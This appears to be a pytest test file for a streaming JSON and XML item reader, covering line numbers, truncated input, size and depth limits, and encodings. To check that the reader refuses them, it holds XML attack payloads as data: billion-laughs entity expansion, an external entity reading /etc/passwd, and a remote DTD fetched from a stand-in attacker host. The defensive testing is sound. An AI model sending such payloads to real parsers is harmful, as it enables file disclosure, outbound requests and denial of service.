"""JSON and XML in one piece: item by item, with an end to what attacks or never ends."""

from collections.abc import Iterator
from io import BytesIO
from typing import Any, cast

import pytest

from core.files import documents
from core.files.documents import json_items, xml_items
from core.files.errors import FileUnreadable, RowRejected
from core.files.reader import Row


def elements(content: bytes) -> list[Any]:
    return [
        item if isinstance(item, RowRejected) else (item[0], item[1].text)
        for item in xml_items(BytesIO(content), {"r"})
    ]


def test_elements_with_their_lines_and_without_namespaces() -> None:
    assert elements(b'<f xmlns="urn:x">\n<r>one</r>\n\n<g><r>two</r></g></f>') == [(2, "one"), (4, "two")]


BILLION = b"""<?xml version="1.0"?>
<!DOCTYPE f [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>
<f><r>&c;</r></f>"""
OUTSIDE = b"""<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><f><r>&x;</r></f>"""
REMOTE = b"""<!DOCTYPE f SYSTEM "http://attacker.test/x.dtd"><f><r>1</r></f>"""


@pytest.mark.parametrize("content", [BILLION, OUTSIDE, REMOTE])
def test_entities_and_document_types_are_refused_whole(content: bytes) -> None:
    with pytest.raises(FileUnreadable, match="entities"):
        elements(content)


def test_what_is_nested_too_deep_is_refused() -> None:
    with pytest.raises(FileUnreadable, match="inside each other"):
        elements(b"<f>" + b"<g>" * 100)


def test_a_cut_document_gives_what_it_has_and_says_where_it_ends() -> None:
    *found, last = elements(b"<f><r>one</r>\n<r>two</r>\n<r>thr")
    assert found == [(1, "one"), (2, "two")]
    assert (last.line, last.code) == (3, "malformed")
    *found, last = elements(b"<f><r>one</r>\n<r>a & b</r></f>")
    assert found == [(1, "one")]
    assert last.line == 2


def test_json_items() -> None:
    found = list(
        json_items(
            BytesIO(b'{"x": 1, "reviews": [{"a": {"b": 1.50, "c": null}, "d": [1]}, 7]}'), "reviews.item"
        )
    )
    assert found[0] == Row(1, {"a.b": "1.50", "a.c": "", "d": "[1]"})
    assert isinstance(found[1], RowRejected)


def test_json_that_ends_in_the_middle() -> None:
    first, last = json_items(BytesIO(b'[{"a": 1}, {"a": '), "item")
    assert first == Row(1, {"a": "1"})
    assert isinstance(last, RowRejected) and last.line == 2 and "not read from here" in last.reason


class Endless:
    """A document that never comes to an item."""

    def __init__(self, begin: bytes) -> None:
        self.blocks: Iterator[bytes] = iter([begin])
        self.bytes = 0

    def read(self, size: int) -> bytes:
        block = next(self.blocks, b"x" * size) if size else b""
        self.bytes += len(block)
        return block


@pytest.mark.parametrize(
    ("begin", "read"),
    [
        (b'[{"a": "', lambda file: list(json_items(file, "item"))),
        (b"<f><r>", lambda file: list(xml_items(file, {"r"}))),
    ],
)
def test_one_endless_item_takes_no_more_than_its_limit(begin: bytes, read: Any) -> None:
    file = Endless(begin)
    with pytest.raises(FileUnreadable, match="without a review"):
        read(cast("Any", file))
    assert file.bytes <= documents.MAX_ITEM_BYTES + 2 * documents.BLOCK_BYTES


@pytest.mark.parametrize("codec", ["utf-8-sig", "utf-16", "gb18030"])
def test_json_in_other_encodings(codec: str) -> None:
    text = '[{"a": "退货也没人理"}, {"a": "é"}]' + " " * 70_000
    encoding = {"utf-8-sig": "utf-8", "utf-16": "utf-16-le", "gb18030": "gb18030"}[codec]
    assert list(json_items(BytesIO(text.encode(codec)), "item", encoding)) == [
        Row(1, {"a": "退货也没人理"}),
        Row(2, {"a": "é"}),
    ]
